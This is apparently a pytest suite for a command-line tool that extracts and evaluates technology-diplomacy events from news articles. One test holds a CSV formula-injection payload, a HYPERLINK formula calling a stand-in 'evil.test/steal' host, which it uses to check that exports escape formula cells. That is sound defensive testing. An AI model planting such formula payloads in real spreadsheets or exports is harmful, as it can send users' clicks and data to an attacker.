"""Every command, as a user runs it."""

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import SAMPLES

ARTICLE = (
    "Iran and Armenia sign memorandum on artificial intelligence\n\n"
    "The Iranian minister of ICT and the ambassador of Armenia signed a memorandum of understanding "
    "on artificial intelligence and cybersecurity in Tehran on Monday.\n"
)
OTHER = (
    "China and Iran agree on data centres\n\n"
    "China and Iran signed an agreement on data centres and 5G networks in Beijing.\n"
)


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "news"
    folder.mkdir()
    (folder / "iran_armenia.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / "china_iran.txt").write_text(OTHER, encoding="utf-8")
    (folder / "broken.jsonl").write_text('{"id": "x", "text": "ok but"\n', encoding="utf-8")
    return folder


def test_extract_prints_one_json_line_per_document_and_fails_on_bad_input(run_cli, corpus):
    status, out, err = run_cli("extract", corpus)
    lines = [json.loads(line) for line in out.splitlines()]
    assert status == 1 and "broken.jsonl:1" in err and "malformed JSON" in err
    assert [Path(line["doc"]).name for line in lines] == ["china_iran.txt", "iran_armenia.txt"]
    armenia = lines[1]
    assert armenia["lang"] == "en" and armenia["relevant"] is True
    event = armenia["events"][0]
    assert event["type"] == "AGREE" and event["parties"] == ["ARM", "IRN"] and event["status"] == "signed"
    assert {"ai", "cybersecurity"} <= set(event["areas"])
    for span in event["evidence"]:
        assert ARTICLE[span["start"] : span["end"]] == span["text"]


def test_extract_of_good_inputs_only_exits_zero(run_cli, corpus):
    status, out, _ = run_cli("extract", corpus / "iran_armenia.txt")
    assert status == 0 and len(out.splitlines()) == 1


def test_ingest_reports_and_is_idempotent(run_cli, corpus, any_db_url):
    status, out, err = run_cli("ingest", corpus, "--db", any_db_url)
    assert status == 1 and "2 added" in out and "1 failed" in out and "broken.jsonl:1" in err
    status, out, _ = run_cli("ingest", corpus / "iran_armenia.txt", corpus / "china_iran.txt", "--db", any_db_url)
    assert status == 0 and "0 added" in out and "2 skipped as already present" in out


def test_events_table_json_csv_and_filters(run_cli, corpus, any_db_url):
    run_cli("ingest", corpus, "--db", any_db_url)
    status, out, _ = run_cli("events", "--db", any_db_url)
    assert status == 0 and "AGREE" in out and "ARM, IRN" in out
    status, out, _ = run_cli("events", "--db", any_db_url, "--pair", "IRN,ARM", "--json")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["parties"] for r in rows] == [["ARM", "IRN"]] and rows[0]["evidence"]
    status, out, _ = run_cli("events", "--db", any_db_url, "--party", "CHN", "--csv")
    table = list(csv.DictReader(io.StringIO(out)))
    assert len(table) == 1 and table[0]["parties"] == "CHN;IRN"
    status, out, _ = run_cli("events", "--db", any_db_url, "--area", "postal")
    assert "no events match" in out
    status, _, err = run_cli("events", "--db", any_db_url, "--since", "2024-02-30")
    assert status == 2 and "not a date" in err


def test_summary_lists_pairs_areas_and_next_commands(run_cli, corpus, db_url):
    run_cli("ingest", corpus, "--db", db_url)
    status, out, _ = run_cli("summary", "--db", db_url)
    assert status == 0 and "ARM - IRN" in out and "techdip events" in out
    status, out, _ = run_cli("summary", "--db", db_url, "--json")
    assert json.loads(out)["events"] >= 2


def test_eval_prints_metrics_and_scores_a_given_prediction(run_cli, corpus, tmp_path):
    gold = tmp_path / "gold.jsonl"
    record = {"doc": "news/iran_armenia.txt", "lang": "en", "published": None, "relevant": True,
              "events": [{"type": "AGREE", "parties": ["ARM", "IRN"], "areas": ["ai", "cybersecurity"],
                          "people": [], "date": None, "location": "Tehran", "status": "signed"}]}  # fmt: skip
    gold.write_text(json.dumps(record) + "\n", encoding="utf-8")
    status, out, _ = run_cli("eval", gold)
    assert status == 0 and "parties P/R/F1" in out and "en (n=1)" in out
    status, out, _ = run_cli("eval", gold, "--json")
    scores = json.loads(out)
    assert scores["all"]["parties"]["f1"] == 1.0 and scores["all"]["lang"]["accuracy"] == 1.0
    pred = tmp_path / "pred.jsonl"
    pred.write_text(json.dumps({**record, "events": []}) + "\n", encoding="utf-8")
    status, out, _ = run_cli("eval", gold, "--pred", pred, "--json")
    assert json.loads(out)["all"]["parties"]["recall"] == 0.0


def test_eval_split_scores_only_that_split_and_errors_list_what_was_missed(run_cli, corpus, tmp_path):
    gold = tmp_path / "gold.jsonl"
    base = {"lang": "en", "published": None, "relevant": True}
    tune = {**base, "doc": "news/iran_armenia.txt", "split": "tune",
            "events": [{"type": "AGREE", "parties": ["ARM", "IRN"], "areas": ["space"], "people": [],
                        "date": None, "location": None, "status": "signed"}]}  # fmt: skip
    check = {**tune, "split": "check", "events": [{**tune["events"][0], "parties": ["ARM", "FRA"]}]}
    gold.write_text(json.dumps(tune) + "\n" + json.dumps(check) + "\n", encoding="utf-8")
    status, out, _ = run_cli("eval", gold, "--split", "tune", "--errors")
    assert status == 0 and "(split tune)" in out and "2 articles" not in out
    assert "areas" in out and "-{space}" in out  # the gold's area the article does not name
    assert "FRA" not in out
    status, out, _ = run_cli("eval", gold, "--split", "check", "--json")
    assert json.loads(out)["all"]["parties"]["tp"] == 1 and json.loads(out)["all"]["articles"] == 1
    gold.write_text(json.dumps({k: v for k, v in tune.items() if k != "split"}) + "\n", encoding="utf-8")
    status, _, err = run_cli("eval", gold, "--split", "check")
    assert status == 2 and "split" in err


def test_gold_check_names_each_bad_line(run_cli, corpus, tmp_path):
    gold = tmp_path / "gold.jsonl"
    good = {"doc": "news/iran_armenia.txt", "lang": "en", "published": None, "relevant": True, "split": "tune",
            "events": [{"type": "AGREE", "parties": ["ARM", "IRN"], "areas": [], "people": [],
                        "date": "2024-11", "location": None, "status": "signed"}]}  # fmt: skip
    gold.write_text(json.dumps(good) + "\n", encoding="utf-8")
    status, out, _ = run_cli("gold", "check", gold)
    assert status == 0, out
    text = (tmp_path / "news/iran_armenia.txt").read_text(encoding="utf-8")
    bad_event = {**good["events"][0], "parties": ["IRN", "ARM", "XXX"], "areas": ["quantum"], "date": "2024-13",
                 "people": [{"name": "Nobody Here", "party": "IRN", "role": "minister"}],
                 "evidence": [{"start": 0, "end": 5, "text": text[1:6]}]}  # fmt: skip
    bad = {**good, "doc": "news/iran_armenia.txt", "split": "dev", "relevant": False, "events": [bad_event]}
    gold.write_text(json.dumps(good) + "\n" + json.dumps(bad) + "\n", encoding="utf-8")
    status, out, _ = run_cli("gold", "check", gold)
    assert status == 1
    for expected in (
        "same doc as line 1",
        "unknown party code 'XXX'",
        "parties not sorted",
        "unknown area",
        "bad date",
        "not found in the article",
        "evidence 0:5",
        "bad split",
        "relevant is False",
    ):
        assert expected in out, expected
    assert all(line.startswith(f"{gold}: line 2") for line in out.splitlines())


def test_eval_of_the_samples_gold_prints_metrics(run_cli):
    status, out, _ = run_cli("eval", SAMPLES / "gold.jsonl")
    assert status == 0 and "dyads P/R/F1" in out


def test_lexicon_check_passes_on_the_shipped_lexicons(run_cli):
    status, out, _ = run_cli("lexicon", "check")
    assert status == 0, out
    assert "0 problems" in out


def test_stdin_extraction(run_cli, monkeypatch):
    import sys

    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(ARTICLE.encode()), encoding="utf-8"))
    status, out, _ = run_cli("extract", "-")
    assert status == 0 and json.loads(out)["events"][0]["parties"] == ["ARM", "IRN"]


def test_events_limit_party_names_unknown_codes_and_search(run_cli, corpus, tmp_path):
    db = f"sqlite:///{tmp_path / 'events.db'}"
    run_cli("ingest", corpus, "--db", db)
    status, out, _ = run_cli("events", "--db", db, "--limit", "1")
    assert status == 0 and out.splitlines()[-1].startswith("1 events")
    status, out, _ = run_cli("events", "--db", db, "--party", "iran", "--json")
    assert status == 0 and out and all("IRN" in json.loads(line)["parties"] for line in out.splitlines())
    status, _, err = run_cli("events", "--db", db, "--party", "XXX")
    assert status == 2 and "unknown party 'XXX'" in err and "did you mean" in err
    status, out, _ = run_cli("events", "--db", db, "--search", "memorandum", "--json")
    assert status == 0 and {json.loads(line)["parties"][0] for line in out.splitlines()} == {"ARM"}


def test_events_csv_writes_formula_cells_as_text(run_cli, tmp_path, db_url):
    formula = '=HYPERLINK("http://evil.test/steal","open me")'
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"id": formula, "text": ARTICLE}) + "\n", encoding="utf-8")
    run_cli("ingest", feed, "--db", db_url)
    status, out, _ = run_cli("events", "--db", db_url, "--csv")
    table = list(csv.DictReader(io.StringIO(out)))
    assert status == 0 and table and table[0]["source"] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row.values())


def test_events_with_a_year_too_big_for_any_calendar_is_a_usage_error(run_cli, db_url):
    status, _, err = run_cli("events", "--db", db_url, "--since", "1234567890123456789")
    assert status == 2 and "not a date" in err


def test_extract_tells_which_bytes_it_replaced(run_cli, tmp_path):
    damaged = tmp_path / "damaged.txt"
    damaged.write_bytes(ARTICLE.encode().replace(b"Tehran", "Tehran — تهران".encode() + b"\xff"))
    status, out, err = run_cli("extract", damaged)
    assert status == 0 and json.loads(out)["events"][0]["parties"] == ["ARM", "IRN"]
    assert f"warning: {damaged}: 1 invalid UTF-8 sequence replaced by U+FFFD (line 3)" in err


def test_an_extraction_error_is_one_line(run_cli, corpus, monkeypatch):
    from techdip.extract import pipeline

    def broken(document, budget=None):
        raise ValueError("first line\nsecond line\nthird line")

    monkeypatch.setattr(pipeline, "extract", broken)
    status, _, err = run_cli("extract", corpus / "iran_armenia.txt")
    assert status == 1 and err.strip().endswith("extraction failed: ValueError: first line")
    assert len(err.strip().splitlines()) == 1
